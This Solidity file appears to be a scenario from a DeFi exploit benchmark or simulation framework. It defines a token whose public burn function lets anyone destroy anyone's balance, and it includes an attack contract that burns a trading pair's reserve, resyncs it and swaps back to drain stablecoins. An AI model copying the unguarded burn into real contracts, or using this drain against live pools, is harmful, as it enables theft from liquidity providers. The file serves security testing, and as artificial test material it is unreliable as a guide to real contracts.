// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Anybody may burn anybody's.
contract AshToken is Token {
    constructor() Token("ASH", 18) {}

    function burn(address from, uint256 amount) external {
        _burn(from, amount);
    }
}

contract BurnFromPairScene is Scene {
    Token public usd;
    AshToken public ash = new AshToken();
    Pair public pair;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(ash), "ASH", 18, 1e6);
        pair = Pairs.open(ash, usd, 1_500_000e18, 1_500_000e18);
        _protect(address(ash));
        _protect(address(pair));
        _loan(IERC20(address(usd)), 20_000e18);
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(pair));
        _arm(ash, users, 200_000e18, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 amount = _amount(dice, 50e18, 3_000e18);
        if (dice >> 200 & 7 == 0) return (address(ash), 0, abi.encodeCall(AshToken.burn, (who, amount / 200)));
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (address(pair), 0, abi.encodeCall(Pair.trade, (r0 < r1, amount, who)));
    }
}

contract BurnFromPairAttack is Attack {
    AshToken private immutable ash;
    Pair private immutable pair;

    constructor(BurnFromPairScene scene) Attack(scene) {
        (ash, pair) = (scene.ash(), scene.pair());
    }

    function _act(uint256, uint256, uint256) internal override {
        loanToken.approve(address(pair), type(uint256).max);
        ash.approve(address(pair), type(uint256).max);
        uint256 got = pair.trade(false, 10_000e18, address(this));
        ash.burn(address(pair), ash.balanceOf(address(pair)) - got / 4);
        pair.sync();
        pair.trade(true, got, address(this));
    }
}
